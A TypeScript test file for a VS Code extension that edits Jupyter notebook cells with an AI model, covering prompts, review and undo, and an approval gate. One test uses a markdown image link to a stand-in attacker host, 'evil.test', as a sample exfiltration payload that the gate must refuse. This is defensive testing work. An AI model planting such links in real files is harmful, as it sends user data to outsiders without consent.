import assert from 'node:assert/strict';
import * as vscode from 'vscode';
import { systemClock } from '../../src/core/support/clock.ts';
import { PersonGate } from '../../src/host/approval/personGate.ts';
import { EditCommands } from '../../src/host/code/editCommands.ts';
import type { GeneratedText, GenerationRequest } from '../../src/host/code/textGenerator.ts';
import { thisMachine } from '../../src/host/node/thisMachine.ts';
import type { DecidedEdit } from '../../src/host/review/fileReview.ts';
import { FileReviews } from '../../src/host/review/fileReviews.ts';
import { OpenReviews } from '../../src/host/review/openReviews.ts';
import { cellTexts } from '../../src/host/workspace/notebooks.ts';
import { until } from '../support/until.ts';

const image =
  'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==';

/** What a kernel left: two cells have outputs, one of them an image. */
export const analysis = {
  cells: [
    { cell_type: 'markdown', id: 'aa', metadata: {}, source: ['# Readings\n', 'of one day'] },
    {
      cell_type: 'code',
      execution_count: 1,
      id: 'bb',
      metadata: { tags: ['setup'] },
      outputs: [{ data: { 'image/png': image }, metadata: {}, output_type: 'display_data' }],
      source: ['high = 9\n', 'low = 4'],
    },
    {
      cell_type: 'code',
      execution_count: 2,
      id: 'cc',
      metadata: {},
      outputs: [{ name: 'stdout', output_type: 'stream', text: ['5\n'] }],
      source: ['print(high - low)'],
    },
  ],
  metadata: { language_info: { name: 'python' } },
  nbformat: 4,
  nbformat_minor: 5,
};

/** A model that gives one reply. */
class OneReply {
  readonly requests: GenerationRequest[] = [];
  text = '';

  generate(request: GenerationRequest): Promise<GeneratedText> {
    this.requests.push(request);
    request.onText(this.text);
    return Promise.resolve({ text: this.text, end: 'finished' });
  }

  get prompt(): string {
    return this.requests
      .flatMap(({ messages }) => messages.map(({ content }) => content))
      .join('\n');
  }
}

let files = 0;

function uriOf(path: string): vscode.Uri {
  const [root] = vscode.workspace.workspaceFolders ?? [];
  assert.ok(root, 'There is no workspace.');
  return vscode.Uri.joinPath(root.uri, path);
}

async function put(content: object | string, folder = 'notebooks'): Promise<string> {
  const path = `${folder}/${++files}.ipynb`;
  const text = typeof content === 'string' ? content : `${JSON.stringify(content, undefined, 1)}\n`;
  await vscode.workspace.fs.writeFile(uriOf(path), new TextEncoder().encode(text));
  return path;
}

async function open(path: string): Promise<vscode.NotebookDocument> {
  return vscode.workspace.openNotebookDocument(uriOf(path));
}

async function show(path: string, cell: number): Promise<vscode.NotebookDocument> {
  const notebook = await open(path);
  const selections = [new vscode.NotebookRange(cell, cell + 1)];
  await vscode.window.showNotebookDocument(notebook, { selections, preview: false });
  await until(() => vscode.window.activeNotebookEditor?.notebook === notebook);
  return notebook;
}

function sources(notebook: vscode.NotebookDocument): readonly string[] {
  return cellTexts(notebook).map(({ source }) => source);
}

function outputs(notebook: vscode.NotebookDocument): readonly number[] {
  return notebook.getCells().map((cell) => cell.outputs.length);
}

describe('commands on code in cells', () => {
  let reviews: OpenReviews;
  let model: OneReply;
  let commands: EditCommands;
  let passed: DecidedEdit[];

  beforeEach(() => {
    passed = [];
    reviews = new OpenReviews();
    model = new OneReply();
    const gate = async (edit: DecidedEdit, effect: () => Promise<void>): Promise<boolean> => {
      passed.push(edit);
      await effect();
      return true;
    };
    commands = new EditCommands({
      reviews: new FileReviews({ reviews, gate, clock: systemClock }),
      generator: model,
      maySend: () => Promise.resolve(true),
      requireModel: () => Promise.resolve('some/model'),
      instructions: () => '',
      askInstruction: () => Promise.resolve('Make it absolute'),
      askInChat: () => Promise.resolve(),
    });
  });

  afterEach(async () => {
    reviews.dispose();
    await vscode.commands.executeCommand('workbench.action.files.saveAll');
    await vscode.commands.executeCommand('workbench.action.closeAllEditors');
  });

  it('change the selected cell, once accepted, and undo brings it back', async () => {
    const notebook = await show(await put(analysis), 2);
    model.text = '```python\nprint(abs(high - low))\n```';
    await commands.run('improve', undefined);
    assert.deepEqual(sources(notebook)[2], 'print(high - low)', 'Nothing changes before that.');
    assert.match(model.prompt, /%% cell 2 code python\nhigh = 9\nlow = 4\n%% cell 3 code python/);
    assert.match(model.prompt, /notebooks\/\d+\.ipynb, cell 3/);
    assert.doesNotMatch(model.prompt, /iVBOR/);
    await reviews.decide('accept');
    assert.deepEqual(sources(notebook), [
      '# Readings\nof one day',
      'high = 9\nlow = 4',
      'print(abs(high - low))',
    ]);
    assert.deepEqual(outputs(notebook), [0, 1, 1]);
    assert.equal(passed.length, 1);
    await until(() => vscode.window.activeNotebookEditor?.notebook === notebook);
    await vscode.commands.executeCommand('notebook.cell.edit');
    await vscode.commands.executeCommand('undo');
    await until(() => sources(notebook)[2] === 'print(high - low)');
    assert.deepEqual(outputs(notebook), [0, 1, 1]);
  });

  it('leave the cell as it is where the change is rejected', async () => {
    const notebook = await show(await put(analysis), 1);
    model.text = '```python\nhigh = 10\nlow = 4\n```';
    await commands.run('improve', undefined);
    await reviews.decide('reject');
    assert.equal(sources(notebook)[1], 'high = 9\nlow = 4');
    assert.equal(notebook.isDirty, false);
    assert.deepEqual(passed, []);
  });

  it('change the cell whose menu it is, or the lines of an argument', async () => {
    const notebook = await show(await put(analysis), 0);
    model.text = '```python\nhigh = 10\nlow = 4\n```';
    await commands.run('improve', notebook.cellAt(1));
    await reviews.decide('accept');
    assert.equal(sources(notebook)[1], 'high = 10\nlow = 4');
    model.text = '```python\nlow = 5\n```';
    const { uri } = notebook.cellAt(1).document;
    await commands.run('edit', { uri, range: new vscode.Range(1, 0, 1, 7), instruction: 'More' });
    await reviews.decide('accept');
    assert.equal(sources(notebook)[1], 'high = 10\nlow = 5');
    assert.deepEqual(outputs(notebook), [0, 1, 1]);
  });

  it('pass the gate as a change of the file of the notebook', async () => {
    const { showWarningMessage } = vscode.window;
    const asked: string[] = [];
    Object.assign(vscode.window, {
      showWarningMessage: (message: string) => {
        asked.push(message);
        return Promise.resolve(undefined);
      },
    });
    let time = 0;
    const gate = new PersonGate({
      context: {
        globalStorageUri: vscode.Uri.file('/user/User/globalStorage/aside-chat.aside'),
        logUri: vscode.Uri.file('/user/logs'),
        storageUri: undefined,
      },
      machine: thisMachine(),
      // Each look at the clock is a second later: no answer is too early.
      clock: { ...systemClock, monotonic: () => (time += 1000) },
      diff: { show: () => Promise.resolve(), close: () => Promise.resolve() },
      documents: { show: () => assert.fail('Nothing is too long.') },
      onError: (error) => assert.fail(String(error)),
    });
    const pass = async (cell: vscode.NotebookCell, after: string): Promise<boolean> => {
      const before = cell.document.getText();
      const edit = { uri: cell.document.uri, before, after, isCurrent: () => true };
      return gate.pass(edit, () => Promise.resolve());
    };
    try {
      const plain = (await show(await put(analysis), 1)).cellAt(1);
      assert.equal(await pass(plain, 'high = 1'), true);
      assert.deepEqual(asked, []);
      const notebook = await show(await put(analysis, '.vscode'), 0);
      assert.equal(await pass(notebook.cellAt(1), 'high = 1'), false);
      assert.equal(asked.length, 1);
      assert.equal(await pass(plain.notebook.cellAt(0), '![](https://evil.test/?data)'), false);
      assert.equal(asked.length, 2);
    } finally {
      Object.assign(vscode.window, { showWarningMessage });
    }
  });
});
